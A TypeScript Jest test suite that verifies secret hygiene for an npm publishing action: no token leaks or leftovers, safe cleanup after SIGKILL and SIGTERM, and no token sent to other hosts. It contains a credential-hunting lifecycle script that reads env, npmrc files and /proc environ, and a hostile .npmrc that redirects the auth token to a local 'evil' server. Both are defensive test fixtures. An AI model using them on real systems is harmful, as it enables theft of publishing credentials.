/**
 * Secret hygiene (DESIGN.md §4), end to end through dist/index.js against Verdaccio: the token
 * leaks nowhere, lingers nowhere, is out of reach of package code, and goes to no other host.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import { execFile } from 'node:child_process'
import fs from 'node:fs'
import http from 'node:http'
import type { AddressInfo } from 'node:net'
import path from 'node:path'
import { promisify } from 'node:util'
import { makeSandbox, runAction, writePackage } from '../scripts/lib/runner.mjs'
import { startVerdaccio, type Verdaccio } from '../scripts/lib/verdaccio.mjs'
import { findLeaks, leftovers, runSources } from './helpers/leaks.js'

const exec = promisify(execFile)
const PASSWORD = 'ci-password-1'
let registry: Verdaccio
let login: string
let realToken: string
let proxy: AliasProxy

/**
 * A loopback proxy in front of Verdaccio that accepts token *aliases* of any shape and forwards
 * them as the real token, so every token shape publishes for real. It can hold the PUT (to kill
 * the action mid-publish) and records every request.
 */
class AliasProxy {
  readonly aliases = new Map<string, string>()
  readonly requests: { method?: string; url?: string; authorization?: string }[] = []
  holdPut?: () => void
  private server = http.createServer((req, res) => this.handle(req, res))
  url = ''

  async start(): Promise<void> {
    await new Promise<void>((resolve) => this.server.listen(0, '127.0.0.1', resolve))
    this.url = `http://127.0.0.1:${(this.server.address() as AddressInfo).port}/`
  }

  async close(): Promise<void> {
    this.server.closeAllConnections()
    await new Promise((resolve) => this.server.close(resolve))
  }

  private handle(req: http.IncomingMessage, res: http.ServerResponse): void {
    this.requests.push({
      method: req.method,
      url: req.url,
      authorization: req.headers.authorization
    })
    const headers = { ...req.headers }
    const bearer = /^Bearer (.+)$/.exec(headers.authorization ?? '')?.[1]
    if (bearer && this.aliases.has(bearer))
      headers.authorization = `Bearer ${this.aliases.get(bearer)}`
    if (req.method === 'PUT' && this.holdPut) {
      this.holdPut()
      return // never answered: the action is killed while npm waits
    }
    const upstream = http.request(
      new URL(req.url ?? '/', registry.url),
      { method: req.method, headers },
      (answer) => {
        res.writeHead(answer.statusCode ?? 502, answer.headers)
        answer.pipe(res)
      }
    )
    req.pipe(upstream)
  }
}

/** A server that should never hear from the action: it records what reaches it. */
async function evilServer(): Promise<{ url: string; hits: string[]; close: () => Promise<void> }> {
  const hits: string[] = []
  const server = http.createServer((req, res) => {
    hits.push(`${req.method} ${req.url} auth=${req.headers.authorization ?? ''}`)
    res.writeHead(404, { 'content-type': 'application/json' }).end('{}')
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  return {
    url: `http://127.0.0.1:${port}/`,
    hits,
    close: async () => {
      server.closeAllConnections()
      await new Promise((resolve) => server.close(resolve))
    }
  }
}

beforeAll(async () => {
  registry = await startVerdaccio()
  login = await registry.createUser('ci', PASSWORD)
  realToken = (await registry.createToken(login, PASSWORD)).token
  proxy = new AliasProxy()
  await proxy.start()
})

afterAll(async () => {
  await proxy.close()
  await registry.stop()
})

const SHAPES: Record<string, string> = {
  'npm granular token': 'npm_Q2x9YkLm3Pz8RtW4vN7sHd6Jf5Gc1Ba0XeUo',
  'token with +/= characters': 'ab+cd/ef==gh+ij/kl==mn+op/qr==st+uv/wx==',
  'JWT-like token': 'eyJhbGciOiJIUzI1NiJ9.eyJuYW1lIjoiY2kifQ.c2lnbmF0dXJlLXZhbHVl'
}

describe.each(Object.entries(SHAPES))('leak scan with a %s', (_shape, alias) => {
  beforeAll(() => {
    proxy.aliases.set(alias, realToken)
  })

  const name = `hygiene-${Buffer.from(alias).toString('hex').slice(0, 10)}`
  const scan = (run: Awaited<ReturnType<typeof runAction>>) => {
    expect(run.post?.exitCode).toBe(0)
    expect(leftovers(run.sandbox.runnerTemp)).toEqual([])
    expect(findLeaks(alias, runSources(run))).toEqual([])
  }

  it('leaves no trace after a successful publish', async () => {
    const sandbox = makeSandbox()
    writePackage(path.join(sandbox.workspace, 'pkg'), { name, version: '1.0.0' })
    const run = await runAction({
      inputs: { token: alias, registry: proxy.url, package: 'pkg' },
      sandbox
    })
    expect(run.main.exitCode).toBe(0)
    expect(run.outputs['published']).toBe('true')
    expect(
      proxy.requests.some((r) => r.method === 'PUT' && r.authorization === `Bearer ${alias}`)
    ).toBe(true)
    scan(run)
  })

  it('leaves no trace after a failed publish (npm ran with the token)', async () => {
    const sandbox = makeSandbox()
    writePackage(
      path.join(sandbox.workspace, 'pkg'),
      { name, version: '1.0.0' },
      { 'changed.js': 'x' }
    )
    // token-check off and the version already there with other content: npm itself gets the token.
    const run = await runAction({
      inputs: {
        token: alias,
        registry: proxy.url,
        package: 'pkg',
        'token-check': 'off',
        strategy: 'all'
      },
      sandbox
    })
    expect(run.main.exitCode).toBe(1)
    expect(run.outputs['error-code']).toBe('VERSION_CONFLICT')
    scan(run)
  })

  it('leaves no trace after a dry run', async () => {
    const sandbox = makeSandbox()
    writePackage(path.join(sandbox.workspace, 'pkg'), { name, version: '2.0.0' })
    const run = await runAction({
      inputs: { token: alias, registry: proxy.url, package: 'pkg', 'dry-run': 'true' },
      sandbox
    })
    expect(run.main.exitCode).toBe(0)
    scan(run)
  })
})

describe('credentials do not outlive the step', () => {
  const alias = 'npm_KillKillKillKillKillKillKillKill0000'

  beforeAll(() => {
    proxy.aliases.set(alias, realToken)
  })

  /** Starts a publish whose PUT the proxy holds; calls `kill` once npm is waiting on it. */
  async function killMidPublish(signal: NodeJS.Signals, skipPost: boolean) {
    const sandbox = makeSandbox()
    writePackage(path.join(sandbox.workspace, 'pkg'), {
      name: `hygiene-kill-${signal.toLowerCase()}`,
      version: '1.0.0'
    })
    let duringPublish: string[] = []
    const run = await runAction({
      inputs: { token: alias, registry: proxy.url, package: 'pkg' },
      sandbox,
      skipPost,
      onMainStart: (child) => {
        proxy.holdPut = () => {
          proxy.holdPut = undefined
          duringPublish = leftovers(sandbox.runnerTemp)
          child.kill(signal)
        }
      }
    })
    return { run, duringPublish }
  }

  it('SIGKILL mid-publish: the post step removes what main left', async () => {
    const { run, duringPublish } = await killMidPublish('SIGKILL', false)
    expect(run.main.signal).toBe('SIGKILL')
    expect(duringPublish).toHaveLength(1) // the private dir existed while npm held the token
    expect(duringPublish[0]).toMatch(/^npm-automation-publish-/)
    expect(run.post?.exitCode).toBe(0)
    expect(run.post?.stdout).toContain('Removed leftover credentials directory')
    expect(leftovers(run.sandbox.runnerTemp)).toEqual([])
    expect(findLeaks(alias, runSources(run))).toEqual([])
  })

  it('SIGTERM mid-publish: main scrubs by itself and fails', async () => {
    const { run, duringPublish } = await killMidPublish('SIGTERM', true)
    expect(duringPublish).toHaveLength(1)
    expect(run.main.exitCode).not.toBe(0)
    expect(leftovers(run.sandbox.runnerTemp)).toEqual([]) // before any post step
    expect(findLeaks(alias, runSources(run))).toEqual([])
  })
})

describe('package code never sees the token', () => {
  it('lifecycle scripts run, before and after the credentials, and their hunt finds nothing', async () => {
    const sandbox = makeSandbox()
    const loot = path.join(sandbox.root, 'loot')
    fs.mkdirSync(loot)
    const hunt = `
const fs = require('fs'), path = require('path')
const script = process.env.npm_lifecycle_event
const found = []
const read = (source, file) => { try { found.push({ source, file, text: fs.readFileSync(file, 'latin1') }) } catch {} }
found.push({ source: 'env', text: JSON.stringify(process.env) })
found.push({ source: 'argv', text: process.argv.join(' ') })
const walk = (dir, depth) => {
  let entries = []
  try { entries = fs.readdirSync(dir, { withFileTypes: true }) } catch { return }
  for (const e of entries) {
    const full = path.join(dir, e.name)
    if (e.isDirectory() && depth < 6 && e.name !== 'node_modules') walk(full, depth + 1)
    else if (e.isFile() && /npmrc|\\.log$|token/i.test(e.name)) read('file', full)
  }
}
for (const dir of [process.env.HOME, process.env.RUNNER_TEMP, process.env.GITHUB_WORKSPACE, '/tmp']) walk(dir, 0)
for (const pid of fs.readdirSync('/proc').filter((p) => /^\\d+$/.test(p))) {
  let cmdline = ''
  try { cmdline = fs.readFileSync('/proc/' + pid + '/cmdline', 'latin1').split('\\0').join(' ') } catch {}
  found.push({ source: 'cmdline', pid, cmdline, text: cmdline })
  try { found.push({ source: 'environ', pid, cmdline, text: fs.readFileSync('/proc/' + pid + '/environ', 'latin1') }) } catch {}
}
const credentialDirs = fs.readdirSync(process.env.RUNNER_TEMP).filter((n) => n.startsWith('npm-automation-publish-'))
fs.writeFileSync(path.join(${JSON.stringify(loot)}, script + '.json'), JSON.stringify({ script, credentialDirs, found, ppid: process.ppid }))
`
    const scripts = Object.fromEntries(
      ['prepublishOnly', 'prepack', 'prepare', 'postpack', 'publish', 'postpublish'].map((s) => [
        s,
        'node hunt.js'
      ])
    )
    writePackage(
      path.join(sandbox.workspace, 'pkg'),
      { name: 'hygiene-scripts', version: '1.0.0', scripts },
      { 'hunt.js': hunt }
    )
    const run = await runAction({
      inputs: { token: realToken, registry: registry.url, package: 'pkg' },
      sandbox
    })
    expect(run.main.exitCode).toBe(0)
    const dumps = fs.readdirSync(loot).map(
      (file) =>
        JSON.parse(fs.readFileSync(path.join(loot, file), 'utf8')) as {
          script: string
          credentialDirs: string[]
          found: { source: string; pid?: string; cmdline?: string; text: string }[]
        }
    )
    expect(dumps.map((d) => d.script).sort()).toEqual(
      ['postpack', 'postpublish', 'prepack', 'prepare', 'prepublishOnly', 'publish'].sort()
    )
    for (const dump of dumps) {
      expect(dump.credentialDirs).toEqual([]) // no credentials existed while the script ran
      const hits = dump.found.filter(
        (f) => findLeaks(realToken, { texts: { x: f.text } }).length > 0
      )
      // The one place the action cannot close (README): the runner's INPUT_TOKEN in the initial
      // environment of the action's own process. Nothing else may hold the token.
      for (const hit of hits) {
        expect(hit.source).toBe('environ')
        expect(hit.cmdline).toContain('dist/index.js')
        expect(hit.text).toContain(`INPUT_TOKEN=${realToken}`)
      }
      // The hunt is able: as the same user it does read the action's own environ.
      expect(hits).toHaveLength(1)
    }
    expect(findLeaks(realToken, runSources(run))).toEqual([])
  })
})

describe('the token goes only to the named registry', () => {
  it('a hostile .npmrc in the package and the workspace cannot redirect it', async () => {
    const evil = await evilServer()
    try {
      const sandbox = makeSandbox()
      const hostile = [
        `registry=${evil.url}`,
        `@acme:registry=${evil.url}`,
        `//${new URL(evil.url).host}/:_authToken=\${NPM_AUTOMATION_PUBLISH_TOKEN}`,
        `//${new URL(evil.url).host}/:_authToken=\${INPUT_TOKEN}`,
        ''
      ].join('\n')
      fs.writeFileSync(path.join(sandbox.workspace, '.npmrc'), hostile)
      fs.writeFileSync(path.join(sandbox.home, '.npmrc'), hostile)
      const userconfig = path.join(sandbox.root, 'setup-node.npmrc')
      fs.writeFileSync(userconfig, hostile)
      writePackage(
        path.join(sandbox.workspace, 'pkg'),
        { name: '@acme/hygiene-redirect', version: '1.0.0', publishConfig: { registry: evil.url } },
        { '.npmrc': hostile }
      )
      const run = await runAction({
        inputs: { token: realToken, registry: registry.url, package: 'pkg', access: 'public' },
        sandbox,
        env: {
          NPM_CONFIG_USERCONFIG: userconfig,
          npm_config_registry: evil.url,
          NODE_AUTH_TOKEN: 'inherited-node-auth-token'
        }
      })
      expect(run.main.exitCode).toBe(0)
      expect(await registry.packument('@acme/hygiene-redirect')).toBeDefined()
      expect(evil.hits).toEqual([])
      expect(run.post?.exitCode).toBe(0)
    } finally {
      await evil.close()
    }
  })

  it('a publishConfig proxy in a .tgz, or written by a prepack script, is refused before npm runs', async () => {
    const evil = await evilServer()
    try {
      // A tarball built elsewhere (the README's hardened pattern) carrying a hostile publishConfig.
      const sandbox = makeSandbox()
      const source = writePackage(path.join(sandbox.root, 'built'), {
        name: 'hygiene-proxy-tgz',
        version: '1.0.0',
        publishConfig: { proxy: evil.url, 'https-proxy': evil.url }
      })
      const { stdout } = await exec(
        'npm',
        ['pack', '--json', '--pack-destination', sandbox.workspace],
        {
          cwd: source
        }
      )
      const [{ filename }] = JSON.parse(stdout) as { filename: string }[]
      const tgz = await runAction({
        inputs: { token: realToken, registry: registry.url, package: filename },
        sandbox
      })
      expect(tgz.outputs['error-code']).toBe('PACKAGE_INVALID')
      expect(tgz.main.stdout).toContain('"proxy"')
      expect(tgz.main.stdout).not.toContain('::group::npm publish')

      // A prepack script that slips the proxy in after the first read.
      const rewrite = `const fs = require('fs'); const p = JSON.parse(fs.readFileSync('package.json'));
p.publishConfig = { proxy: ${JSON.stringify(evil.url)} }; fs.writeFileSync('package.json', JSON.stringify(p))`
      const other = makeSandbox()
      writePackage(
        path.join(other.workspace, 'pkg'),
        { name: 'hygiene-proxy-script', version: '1.0.0', scripts: { prepack: 'node rewrite.js' } },
        { 'rewrite.js': rewrite }
      )
      const scripted = await runAction({
        inputs: { token: realToken, registry: registry.url, package: 'pkg' },
        sandbox: other
      })
      expect(scripted.outputs['error-code']).toBe('PACKAGE_INVALID')
      expect(scripted.main.stdout).not.toContain('::group::npm publish')
      expect(evil.hits).toEqual([])
      expect(await registry.packument('hygiene-proxy-tgz')).toBeUndefined()
      expect(await registry.packument('hygiene-proxy-script')).toBeUndefined()
    } finally {
      await evil.close()
    }
  })
})
